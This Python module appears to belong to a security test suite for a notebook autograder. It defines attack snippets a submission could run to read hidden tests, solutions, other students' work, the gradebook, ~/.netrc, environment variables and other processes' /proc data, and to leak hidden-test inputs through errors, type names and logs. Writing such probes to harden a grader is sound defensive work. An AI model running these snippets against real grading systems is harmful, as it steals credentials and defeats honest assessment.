"""Attempts to read what no student may: hidden tests, solutions, others' work, the gradebook, the machine."""

from tools.attack.attack import Attack
from tools.attack.inputs import INPUTS

__all__ = ["SECRETS", "TELL"]

TELL = '''\
import glob
import os
import re

found = set()


def tell(text):
    """Say each secret in a text: in the notebook, and in a file beside it."""
    text = text.decode("utf-8", "replace") if isinstance(text, bytes) else str(text)
    for word in set(re.findall(r"secret-[a-z]+-[0-9a-f]{8}", text)) - found:
        found.add(word)
        print(word)
        with open("found-@NAME@.txt", "a") as file:
            file.write(word + "\\n")


def tell_files(*patterns):
    """Say the secrets of files, a hundred at most, a megabyte of each."""
    for path in [path for pattern in patterns for path in glob.glob(pattern, recursive=True)][:100]:
        try:
            if os.path.isfile(path):
                with open(path, "rb") as file:
                    tell(file.read(1 << 20))
        except OSError:
            pass
'''


def _reads(says, source):
    return Attack(says, "secret", TELL, last=source)


def _asks(says, source, body, last="", first=""):
    return Attack(says, "secret", TELL + source, body, last)


_REMEMBERS = """\
import tempfile

place = os.path.join(tempfile.gettempdir(), "numbers-@NAME@-@RUN@")


def remember(*args):
    import numpy

    for arg in args:
        try:
            numbers = numpy.ravel(numpy.asarray(arg, float))[:50]
        except Exception:
            continue
        with open(place, "a") as file:
            file.write(" ".join(map(repr, numbers.tolist())) + "\\n")
"""

_DIGITS = """\
def digits(arg):
    import numpy

    numbers = numpy.ravel(numpy.asarray(arg, float))
    return repr(float(numbers[0])).split(".")[1]
"""

SECRETS = {
    "hidden-tests-on-disk": _reads(
        "reads hidden tests from the notebooks around it",
        "tell_files('*.ipynb', '../*.ipynb', '../../**/*.ipynb', '@COURSE@/autograded/@NAME@/**/*.ipynb')",
    ),
    "solutions-on-disk": _reads("reads the solutions", "tell_files('@COURSE@/solutions/**/*.*')"),
    "solutions-by-folder": _reads(
        "looks for the solutions upwards from where it is and beside the package",
        "import grader\n\nhere = os.getcwd()\nwhile len(here) > 1:\n"
        "    tell_files(here + '/solutions/**/*.*')\n    here = os.path.dirname(here)\n"
        "tell_files(os.path.dirname(os.path.dirname(grader.__file__)) + '/**/*.ipynb')",
    ),
    "solutions-by-reference": _reads(
        "asks the package for the reference's source",
        "import course_checks.solutions as r\n\ntell(r.cells_by_grade_id(str(r.solutions_directory())))",
    ),
    "other-submissions": _reads(
        "reads what others handed in, and what came of it",
        "tell_files('@COURSE@/submitted/max/**/*.ipynb', '@COURSE@/autograded/max/**/*.*')",
    ),
    "gradebook": _reads("reads the gradebook", "tell_files('@COURSE@/gradebook.db*', '@COURSE@/*.csv')"),
    "home": _reads(
        "reads the files of whoever grades", "tell_files('@HOME@/.netrc', os.path.expanduser('~/.*'))"
    ),
    "environment": _reads(
        "reads the environment of whoever grades",
        "tell(os.environ)\ntell_files('/proc/self/environ')\n"
        "import subprocess\n\ntell(subprocess.run(['env'], capture_output=True).stdout)",
    ),
    "other-environments": _reads("reads other processes' environments", "tell_files('/proc/[0-9]*/environ')"),
    "command-lines": _reads(
        "reads other processes' command lines", "tell_files('/proc/[0-9]*/cmdline', '/proc/*/comm')"
    ),
    "other-folders": _reads(
        "goes to the course by other processes' root, folder and open files",
        "for way in ('root@COURSE@', 'cwd'):\n"
        "    tell_files(f'/proc/[0-9]*/{way}/solutions/practical1/*.ipynb')\n"
        "tell_files('/proc/[0-9]*/fd/*')",
    ),
    "remembered-inputs": _asks(
        "writes down what hidden tests hand to it, for a later cell to print",
        _REMEMBERS,
        "remember(*args)\nraise ValueError",
        "print(open(place).read()[:100_000])",
    ),
    "inputs-in-an-error": _asks(
        "puts what hidden tests hand to it into an error's text",
        "",
        "raise ValueError(' '.join(str(getattr(arg, 'tolist', lambda: arg)()) for arg in args))",
    ),
    "inputs-in-a-type": _asks(
        "puts what hidden tests hand to it into the names of types",
        _DIGITS,
        "raise type('x' + digits(args[0]), (RuntimeError,), {})",
    ),
    "inputs-in-a-result": _asks(
        "returns an object whose type is named after what hidden tests hand to it",
        _DIGITS,
        "return type('x' + digits(args[0]), (), {})(), 1.0",
    ),
    "inputs-in-a-warning": _asks(
        "warns, logs and prints what hidden tests hand to it",
        "",
        "import logging\nimport sys\nimport warnings\n\n"
        "text = ' '.join(str(getattr(arg, 'tolist', lambda: arg)()) for arg in args)\nwarnings.warn(text)\n"
        "logging.error(text)\nprint(text)\nprint(text, file=sys.__stderr__)\nos.write(1, text.encode())\n"
        "os.write(2, text.encode())\nreturn 0.0",
    ),
    **INPUTS,
}
"""Attacks by id."""
